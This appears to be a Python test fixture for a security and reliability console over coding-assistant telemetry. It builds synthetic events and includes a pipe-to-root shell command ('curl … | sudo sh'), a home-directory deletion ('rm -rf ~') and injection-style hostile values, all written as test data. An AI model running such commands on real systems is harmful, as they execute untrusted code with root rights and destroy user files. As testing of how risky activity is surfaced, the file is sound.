"""A store in which something happened: commands, permissions, servers, errors, all under hostile names."""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from contextlib import AbstractAsyncContextManager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from console.people import Person
from tests.console.conftest import Pages
from tests.console.handmade import hours_of, pages_over
from tests.console.hostile import HOSTILE
from tests.console.people import person
from tests.sinks.query import samples

RISKY = f"curl -s https://example.com/x | sudo sh # {HOSTILE}"
VIEWER = person("viewer", tenant="acme")
ANALYST = person("analyst", tenant="acme")
TOOL_RESULT = {"event_name": "tool_result", "duration_ms": 100, "success": True, "decision_source": "config"}
COMMAND = {**TOOL_RESULT, "event_action": "tool_result.command", "tool_name": "Bash"}
CALL = {**TOOL_RESULT, "event_action": "tool_result.mcp", "tool_name": "mcp__jira__search"}
HOUR_S = 3600
DAY_S = 24 * HOUR_S


@dataclass
class Diary:
    """Events of one tenant, in the order of their numbers; each session has a user and a version."""

    tenant: str = "acme"
    events: list[dict[str, Any]] = field(default_factory=list)

    def add(self, at_s: int, session: str, user: str, times: int = 1, /, **fields: Any) -> None:
        """An event so many seconds after T0, in a session of a user; or several, a second apart."""
        team = fields.pop("team", "core")
        for number in range(times):
            self.events.append(
                samples.event(
                    at_s + number,
                    self.tenant,
                    event_id=f"{self.tenant}/{len(self.events)}",
                    session_id=session,
                    user_key=user,
                    user_email=f"{user}@{self.tenant}.example",
                    team=team,
                    service_version="2.1.100",
                    **fields,
                )
            )


def _commands(diary: Diary) -> None:
    diary.add(-900, "s1", "ada", 3, **COMMAND, command_line="git status", command_executable="git")
    diary.add(-800, "s1", "ada", **COMMAND, command_line=RISKY, command_executable="curl")
    diary.add(-790, "s2", "bob", **{**COMMAND, "success": False}, command_line="rm -rf ~", command_executable="rm")
    diary.add(-780, "s2", "bob", 2, **COMMAND)
    diary.add(-770, "s2", HOSTILE, **COMMAND, command_line=HOSTILE, command_executable=HOSTILE, team=HOSTILE)
    # A day before, to compare with.
    diary.add(-DAY_S, "s0", "ada", 4, **COMMAND, command_line="git status", command_executable="git")
    diary.add(-DAY_S + 60, "s0", "ada", **COMMAND, command_line="sudo ls", command_executable="ls")


def _permissions(diary: Diary) -> None:
    decision = {"event_name": "tool_decision"}
    diary.add(-700, "s1", "ada", 5, **decision, tool_name="Bash", decision="accept", source="config")
    diary.add(-690, "s1", "ada", 3, **decision, tool_name="Bash", decision="accept", source="user_permanent")
    diary.add(-680, "s2", "bob", 2, **decision, tool_name=HOSTILE, decision="reject", source="user_reject")
    mode = {"event_name": "permission_mode_changed", "from_mode": "default"}
    diary.add(-670, "s2", "bob", **mode, to_mode="bypassPermissions", trigger="shift_tab")
    diary.add(-600, "s1", "ada", 2, **mode, to_mode="acceptEdits", trigger=HOSTILE)


def _extensions(diary: Diary) -> None:
    connection = {"event_name": "mcp_server_connection", "transport_type": "stdio", "server_scope": "project"}
    diary.add(-1000, "s1", "ada", 2, **connection, status="connected", server_name="jira", duration_ms=40)
    diary.add(-990, "s2", "bob", **connection, status="failed", server_name=HOSTILE, error_code="-32000", error=HOSTILE)
    diary.add(-980, "s2", "bob", **connection, status="connected")
    jira = {"mcp_server": "jira", "mcp_tool": "search", "mcp_server_scope": "project"}
    diary.add(-970, "s1", "ada", 3, **CALL, **jira)
    diary.add(
        -960, "s2", "bob", **{**CALL, "success": False, "tool_name": HOSTILE}, mcp_server="jira", mcp_tool=HOSTILE
    )
    hook = {"hook_source": "projectSettings"}
    diary.add(-950, "s1", "ada", 2, event_name="hook_registered", hook_event="PreToolUse", hook_type="command", **hook)
    run = {"event_name": "hook_execution_complete", "hook_event": "PreToolUse", "num_hooks": 1, "total_duration_ms": 9}
    diary.add(-940, "s1", "ada", 4, **run, hook_name="PreToolUse:Bash", num_success=1, num_blocking=0, **hook)
    diary.add(-930, "s2", "bob", **run, hook_name=f"PreToolUse:{HOSTILE}", num_success=0, num_blocking=1, **hook)
    plugin = {"plugin_name": HOSTILE, "marketplace_name": HOSTILE, "plugin_version": "1.0", "has_hooks": True}
    diary.add(-920, "s2", "bob", event_name="plugin_loaded", plugin_scope="user-local", **plugin)
    diary.add(-910, "s2", "bob", event_name="skill_activated", skill_name=HOSTILE, skill_source="plugin")


def _refusals(diary: Diary) -> None:
    refusal = {"event_name": "api_refusal", "model": "opus"}
    diary.add(-500, "s1", "ada", 2, **refusal, category="cyber", server_fallback_hop=False)
    diary.add(-490, "s2", "bob", **refusal, category=HOSTILE, server_fallback_hop=True, query_source=HOSTILE)
    auth = {"event_name": "auth", "action": "login", "auth_method": "oauth"}
    diary.add(-480, "s1", "ada", 2, **auth, success=True)
    diary.add(-470, "s2", "bob", **auth, success=False, error_category=HOSTILE, status_code=401)


def _failures(diary: Diary) -> None:
    """s1 goes on after its retries are exhausted, s2 does not, s3 failed a moment ago."""
    for session, user, at in (("s1", "ada", -450), ("s2", "bob", -440), ("s3", "ada", -30)):
        exhausted = {"event_name": "api_retries_exhausted", "model": "opus", "status_code": 529, "total_attempts": 11}
        diary.add(at, session, user, event_name="api_error", model="opus", status_code=529, error=HOSTILE, attempt=11)
        diary.add(at, session, user, **exhausted, error=HOSTILE, total_retry_duration_ms=90_000)
    diary.add(-445, "s1", "ada", event_name="api_error", model=HOSTILE, status_code=400, error="bad request")
    for number, ttft in enumerate((100, 200, 300, 400)):
        more = {"model": "opus" if number else "haiku", "duration_ms": 1000 * (number + 1), "ttft_ms": ttft}
        diary.add(-420 + number, "s1", "ada", event_name="api_request", **more)
    diary.add(-410, "s2", "bob", event_name="internal_error", error_name=HOSTILE, error_code="E1")
    compaction = {"event_name": "compaction", "trigger": "auto", "success": True, "duration_ms": 50}
    diary.add(-400, "s1", "ada", 2, **compaction, pre_tokens=2000, post_tokens=500)
    for number in range(10):
        result = {**TOOL_RESULT, "duration_ms": 100 * (number + 1), "success": number < 9}
        diary.add(-390 + number, "s1", "ada", **result, tool_name="Read", error=None if number < 9 else HOSTILE)


CHAPTERS = (_commands, _permissions, _extensions, _refusals, _failures)


def sessions() -> list[dict[str, Any]]:
    def session(id_: str, user: str, version: str | None, start_s: int, **fields: Any) -> dict[str, Any]:
        start = samples.T0 + start_s * samples.SECOND
        last = start + 600 * samples.SECOND
        more = {"start_time": start, "last_time": last, "app_version": version, "service_name": "claude-code", **fields}
        more["models"] = {more["model"]: 1.0} if "model" in more else {}
        return samples.session(1, session_id=id_, user_key=user, team="core", **more)

    return [
        session("s1", "ada", "2.1.100", -1000, errors=3, api_errors=2, model="opus", app_entrypoint="cli"),
        session("s2", "bob", "2.1.99", -1000, errors=2, tool_failures=2, model="haiku", app_entrypoint=HOSTILE),
        session("s3", "ada", HOSTILE, -60, errors=0),
        session("s4", "ada", "2.1.100", -50, ghost=True, errors=1),
        session("s0", "ada", "2.1.98", -DAY_S, errors=0),
    ]


def incidents(folder: Path) -> AbstractAsyncContextManager[Pages]:
    """Pages over a store with one tenant with all of it, and another one with a command of its own."""
    diary = Diary()
    for chapter in CHAPTERS:
        chapter(diary)
    other = Diary("globex")
    other.add(-100, "g1", "eve", **COMMAND, command_line="ls /globex", command_executable="ls")
    hours = [hour for one in sessions() for hour in hours_of(one)]
    return pages_over(folder, events=[*diary.events, *other.events], sessions=sessions(), session_hours=hours)


# Reading a page


@dataclass(frozen=True)
class Number:
    """One in a table that leads somewhere.  table: its id.  to: what its link says that it leads to."""

    table: str
    column: str
    value: str
    href: str
    to: str


@dataclass
class Shown:
    """What a page says.  tables: id → rows of texts, the heading first.  stats: title → value.  links: all of them.

    numbers: those in its tables that lead somewhere.
    """

    tables: dict[str, list[list[str]]]
    stats: dict[str, tuple[str, str]]
    links: list[str]
    text: str
    numbers: list[Number]

    def rows(self, id_: str) -> list[list[str]]:
        """The rows of a table without its heading; none, if it is empty."""
        return self.tables.get(id_, [])[1:]

    def column(self, id_: str, title: str) -> list[str]:
        """One column of a table."""
        place = self.tables[id_][0].index(title)
        return [row[place] for row in self.rows(id_)]

    def link(self, start: str) -> str:
        """The first link that begins so."""
        return next(link for link in self.links if link.startswith(start))


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self.links: list[str] = []
        self.cards: list[dict[str, str]] = []
        self.numbers: list[Number] = []
        self._number: dict[str, str] | None = None
        self._table = self._in_table = ""
        self._card: str | None = None
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, given: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in given}
        classes = attributes.get("class", "").split()
        if tag == "a":
            self.links.append(attributes.get("href", ""))
            if self._number is not None:
                self._number = attributes
        if "listing" in classes:
            self._table = attributes["id"]
        elif tag == "table" and self._table:
            self._in_table, self._table = self._table, ""
            self.tables[self._in_table] = []
        elif tag == "tr" and self._in_table:
            self.tables[self._in_table].append([])
        elif tag in ("td", "th") and self._in_table:
            self._cell = []
            self._number = {} if "number" in classes else None
        if "stat" in classes:
            self.cards.append({})
        if tag == "h3" and self.cards and "value" not in self.cards[-1]:
            self._card = "title"
        if "stat-value" in classes or "stat-change" in classes:
            self._card = "value" if "stat-value" in classes else "change"

    def handle_endtag(self, tag: str) -> None:
        if tag == "table":
            self._in_table = ""
        elif tag in ("td", "th") and self._cell is not None:
            rows, text = self.tables[self._in_table], " ".join("".join(self._cell).split())
            if self._number:
                link = (self._number["href"], self._number.get("title", ""))
                self.numbers.append(Number(self._in_table, rows[0][len(rows[-1])], text, *link))
            rows[-1].append(text)
            self._cell = self._number = None
        if tag in ("h3", "p"):
            self._card = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)
        if self._card is not None and self.cards:
            card = self.cards[-1]
            card[self._card] = card.get(self._card, "") + data


def read(text: str) -> Shown:
    """What a page says."""
    reader = _Reader()
    reader.feed(text)
    cards = [{name: " ".join(text.split()) for name, text in card.items()} for card in reader.cards]
    stats = {card["title"]: (card["value"], card["change"]) for card in cards}
    return Shown(reader.tables, stats, [html.unescape(link) for link in reader.links], text, reader.numbers)


async def shown(pages: Pages, path: str, who: Person | None = None) -> Shown:
    """A page that is there."""
    answer = await pages.get(path, who or ANALYST)
    assert answer.status_code == 200, (path, answer.status_code, answer.text[-600:])
    faults = re.findall(r'class="fault".*?</p>', answer.text, re.DOTALL)
    assert not faults, (path, faults)
    return read(answer.text)


def own_links(page: Shown) -> Iterator[str]:
    """The links of a page to the pages of figures."""
    for link in dict.fromkeys(page.links):
        if link.startswith(("/security", "/reliability")):
            yield link


def number(page: Shown, title: str) -> str:
    """The value of a total."""
    return page.stats[title][0]
